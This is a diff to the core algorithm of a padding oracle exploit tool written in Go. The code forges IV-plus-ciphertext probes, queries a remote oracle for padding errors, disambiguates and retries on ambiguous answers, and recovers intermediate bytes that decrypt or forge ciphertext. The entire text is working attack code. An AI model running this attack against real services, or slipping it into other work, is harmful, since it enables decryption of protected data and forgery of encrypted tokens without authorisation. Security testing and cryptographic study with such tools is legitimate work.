@@ -3,86 +3,103 @@ package exploit
 /* implementation of Padding Oracle exploit algorithm */
 
 import (
+	"context"
+	"errors"
 	"fmt"
+	"sync/atomic"
 
+	"github.com/glebarez/padre/pkg/client"
 	"github.com/glebarez/padre/pkg/util"
 )
 
+// errNoValidByte is returned when none of byte values produced valid padding
+var errNoValidByte = errors.New("failed to break the cipher")
+
 // breaks cipher for a given block of ciphertext
 // returns bytes (NullingIV) that are turning underlying plaintext into null-byte sequence when sent as IV
 // the NullingIV can then be used in encryption or decryption, depending on what you XOR it with
-// the streamFetcher can be passed to deliver bytes in in real-time as soon as they discovered
-func (p *Padre) breakCipher(cipherBlock []byte, byteStreamer func(byte)) ([]byte, error) {
+// the streamFetcher can be passed to deliver bytes in in real-time as soon as they discovered.
+// guess helps to find bytes sooner, when plaintext is recovered (nil otherwise)
+func (p *Padre) breakCipher(ctx context.Context, cipherBlock []byte, guess *plainGuess, byteStreamer func(byte)) ([]byte, error) {
+	skip := p.skipped(guess)
+	output, err := p.breakBytes(ctx, cipherBlock, len(cipherBlock)-skip, guess, byteStreamer)
+	if err != nil {
+		return nil, err
+	}
+
+	// bytes in front of ByteRange are not recovered, they are made up to produce zeroes in plaintext
+	for pos := skip - 1; pos >= 0; pos-- {
+		output[pos] = guess.prev[pos]
+		if byteStreamer != nil {
+			byteStreamer(output[pos])
+		}
+	}
+	return output, nil
+}
+
+// breaks count trailing bytes of cipher block, see breakCipher
+func (p *Padre) breakBytes(ctx context.Context, cipherBlock []byte, count int, guess *plainGuess, byteStreamer func(byte)) ([]byte, error) {
 	blockLen := len(cipherBlock)
+	padding := p.padding()
 
 	// output buffer
 	output := make([]byte, blockLen)
 
-	// generate chunk of cipher with prepended random IV
-	cipherChunk := append(util.RandomSlice(blockLen), cipherBlock...)
+	// generate chunk of cipher with prepended IV: pseudo-random bytes derived from the block itself,
+	// so that probes of the same block are the same every time, and can be answered from cache
+	cipherChunk := append(blockPrefix(cipherBlock), cipherBlock...)
+
+	if p.Trace != nil {
+		p.traceBlock(cipherBlock)
+	}
 
 	// we start with the last byte of IV
 	// and repeat the same procedure for every byte moving backwards
-	for pos := blockLen - 1; pos >= 0; pos-- {
-		// discover the bytes that do not produce padding error
-		// NOTE: at last position there may be 2 such bytes*/
-		maxCount := 1
-		if pos == blockLen-1 {
-			maxCount = 2
+	for pos := blockLen - 1; pos >= blockLen-count; pos-- {
+		// plaintext that makes a valid padding up to current position
+		tail := padding.Tail(blockLen - pos)
+		if tail == nil {
+			return nil, fmt.Errorf("%s padding is verified by the last byte only, other bytes of the block cannot be recovered", padding.Name())
 		}
 
-		found, err := p.getErrorlessByteValues(cipherChunk, pos, maxCount)
-		if err != nil {
-			return nil, err
+		// adjust already known bytes to produce the padding
+		for i := pos + 1; i < blockLen; i++ {
+			cipherChunk[i] = output[i] ^ tail[i-pos]
 		}
 
-		/* check the results */
-		var foundByte *byte
-		switch len(found) {
-		case 0:
-			return nil, fmt.Errorf("failed to break the cipher")
-		case 1:
-			foundByte = &found[0]
-		case 2:
-			/* this case can ONLY happen in the last position of the block (see maxCount variable above)
-			here, we found 2 bytes that fit without padding oracle error
-			the challenge here is to find the one that produced \x01 in plaintext
-			the trick is:
-				if we modify second-last byte, and padding error still doesn't occur
-				then we are sure, that found byte produces \x01 at last position of plaintext
-			for more info, you can check this thread:
-			https://crypto.stackexchange.com/questions/37608/clarification-on-the-origin-of-01-in-this-oracle-padding-attack
-			*/
-
-			// modify second-last byte of IV
-			cipherChunk[pos-1]++
-
-			// send additional probes
-			for _, b := range found {
-				// set last byte to one of the found
-				cipherChunk[pos] = b
-
-				// check for padding error
-				paddingError, err := p.IsPaddingErrorInChunk(cipherChunk)
-				if err != nil {
-					return nil, err
-				}
-
-				if !paddingError {
-					// we found the truly valid byte
-					foundByte = &b
-					break
-				}
-			}
+		if p.Trace != nil {
+			p.traceGuess(pos, tail, output)
+		}
 
-			if foundByte == nil {
-				return nil, fmt.Errorf("failed to decrypt due to unexpected server behavior")
+		// hinted byte is verified alone, before anything else is probed
+		var (
+			foundByte *byte
+			err       error
+		)
+		if probe, ok := guess.hinted(pos, tail[0]); ok {
+			foundByte, err = p.tryHint(ctx, cipherChunk, pos, probe)
+		}
+		if foundByte == nil && err == nil {
+			foundByte, err = p.findByteWithRetries(ctx, cipherChunk, pos, p.candidates(guess, pos, tail[0]))
+		}
+		if err != nil {
+			// recovered part of intermediate is not lost
+			if pos < blockLen-1 {
+				err = &PartialError{Intermediate: append([]byte{}, output[pos+1:]...), Err: err}
 			}
+			return nil, err
 		}
 
 		// XOR to retrieve output byte
-		paddingValue := byte(blockLen - pos)
-		outByte := *foundByte ^ paddingValue
+		outByte := *foundByte ^ tail[0]
+
+		if p.Trace != nil {
+			p.traceFound(pos, *foundByte, tail[0])
+		}
+		p.log(logVerbose, "byte found", "pos", pos, "probe", hexByte(*foundByte), "intermediate", hexByte(outByte))
+		if guess != nil {
+			guess.check(p, pos, outByte)
+		}
 
 		// write to output buffer
 		output[pos] = outByte
@@ -91,12 +108,165 @@ func (p *Padre) breakCipher(cipherBlock []byte, byteStreamer func(byte)) ([]byte
 		if byteStreamer != nil {
 			byteStreamer(outByte)
 		}
+	}
+	return output, nil
+}
+
+// finds the byte value at pos, retrying on ambiguous results (see Padre.Retries).
+// candidates are probed in given order (nil means sequence)
+func (p *Padre) findByteWithRetries(ctx context.Context, cipherChunk []byte, pos int, candidates []byte) (*byte, error) {
+	blockLen := len(cipherChunk) / 2
+	lenient := pos == blockLen-1 && p.padding().Tail(2) == nil
+
+	for attempt := 0; ; attempt++ {
+		var (
+			foundByte *byte
+			err       error
+		)
+
+		if lenient {
+			foundByte, err = p.findLastByteLenient(ctx, cipherChunk, pos)
+		} else {
+			foundByte, err = p.findByte(ctx, cipherChunk, pos, candidates)
+		}
 
-		// adjust padding for next iteration
-		cipherChunk[pos] = *foundByte
-		for i := pos; i < blockLen; i++ {
-			cipherChunk[i] ^= paddingValue ^ (paddingValue + 1)
+		// verify the found byte with a fresh probe, this filters out accidental responses of unstable oracle
+		if err == nil && p.Retries > 0 {
+			cipherChunk[pos] = *foundByte
+			var paddingError bool
+			paddingError, err = p.IsPaddingErrorInChunk(client.WithoutCache(ctx), cipherChunk)
+			if err == nil && paddingError {
+				err = fmt.Errorf("found byte did not pass verification: %w", errNoValidByte)
+			}
 		}
+
+		if err == nil {
+			return foundByte, nil
+		}
+
+		// only ambiguous results are retried
+		if !errors.Is(err, errNoValidByte) || attempt >= p.Retries {
+			if attempt > 0 {
+				return nil, fmt.Errorf("%w (gave up after %d retries)", err, attempt)
+			}
+			return nil, err
+		}
+
+		// start over with fresh random bytes in front of the position
+		atomic.AddInt32(&p.retried, 1)
+		countRetry(ctx)
+		p.log(logVerbose, "retrying position", "pos", pos, "attempt", attempt+1, "reason", err)
+		copy(cipherChunk[:pos], util.RandomSlice(pos))
 	}
-	return output, nil
+}
+
+// finds the byte value at pos, that produces valid padding
+func (p *Padre) findByte(ctx context.Context, cipherChunk []byte, pos int, candidates []byte) (*byte, error) {
+	// discover the bytes that do not produce padding error
+	// NOTE: at last position there may be 2 such bytes*/
+	// NOTE: chunk consists of IV and cipher block
+	maxCount := 1
+	if pos == len(cipherChunk)/2-1 {
+		maxCount = 2
+	}
+
+	found, err := p.getErrorlessByteValues(ctx, cipherChunk, pos, candidates, maxCount)
+	if err != nil {
+		return nil, err
+	}
+
+	/* check the results */
+	switch len(found) {
+	case 0:
+		return nil, errNoValidByte
+	case 2:
+		markAmbiguous(ctx)
+	case 1:
+		// with implicit padding length (ISO 7816-4), 2 such bytes may exist in any position
+		// so the found one must be verified, and if it's the wrong one, look for another
+		if pos == 0 || !hasImplicitLength(p.padding()) {
+			return &found[0], nil
+		}
+
+		foundByte, err := p.disambiguate(ctx, cipherChunk, pos, found)
+		if err == nil || !errors.Is(err, errNoValidByte) {
+			return foundByte, err
+		}
+
+		if found, err = p.getErrorlessByteValues(ctx, cipherChunk, pos, candidates, 2); err != nil {
+			return nil, err
+		}
+	}
+
+	return p.disambiguate(ctx, cipherChunk, pos, found)
+}
+
+/*
+	here, we found bytes that fit without padding oracle error
+
+the challenge here is to find the one that produced the expected padding (e.g. \x01 at last position of plaintext),
+others produce longer padding, by accident of preceding bytes
+the trick is:
+
+	if we modify preceding byte, and padding error still doesn't occur
+	then we are sure, that found byte produces expected padding
+
+for more info, you can check this thread:
+https://crypto.stackexchange.com/questions/37608/clarification-on-the-origin-of-01-in-this-oracle-padding-attack
+*/
+func (p *Padre) disambiguate(ctx context.Context, cipherChunk []byte, pos int, found []byte) (*byte, error) {
+	p.log(logVerbose, "disambiguating byte values", "pos", pos, "candidates", hexBytes(found))
+
+	// modify preceding byte of IV
+	cipherChunk[pos-1]++
+	defer func() { cipherChunk[pos-1]-- }()
+
+	// send additional probes
+	for _, b := range found {
+		// set byte to one of the found
+		cipherChunk[pos] = b
+
+		// check for padding error
+		paddingError, err := p.IsPaddingErrorInChunk(ctx, cipherChunk)
+		if err != nil {
+			return nil, err
+		}
+
+		if !paddingError {
+			// we found the truly valid byte
+			return &b, nil
+		}
+	}
+
+	return nil, fmt.Errorf("failed to decrypt due to unexpected server behavior: %w", errNoValidByte)
+}
+
+// finds the byte value at last position, that produces \x01 in plaintext,
+// when the oracle verifies only the last byte of padding (any of 1..blockLen is valid).
+// every valid value is collected, then the only intermediate byte that maps them into 1..blockLen is derived
+func (p *Padre) findLastByteLenient(ctx context.Context, cipherChunk []byte, pos int) (*byte, error) {
+	blockLen := pos + 1
+
+	found, err := p.getErrorlessByteValues(ctx, cipherChunk, pos, nil, 256)
+	if err != nil {
+		return nil, err
+	}
+	if len(found) != blockLen {
+		return nil, fmt.Errorf("unexpected server behavior, %d valid bytes at last position (%d expected): %w", len(found), blockLen, errNoValidByte)
+	}
+
+candidates:
+	for i := 0; i < 256; i++ {
+		intermediate := byte(i)
+		for _, b := range found {
+			if v := int(b ^ intermediate); v < 1 || v > blockLen {
+				continue candidates
+			}
+		}
+
+		b := intermediate ^ 1
+		return &b, nil
+	}
+
+	return nil, fmt.Errorf("failed to decrypt due to unexpected server behavior: %w", errNoValidByte)
 }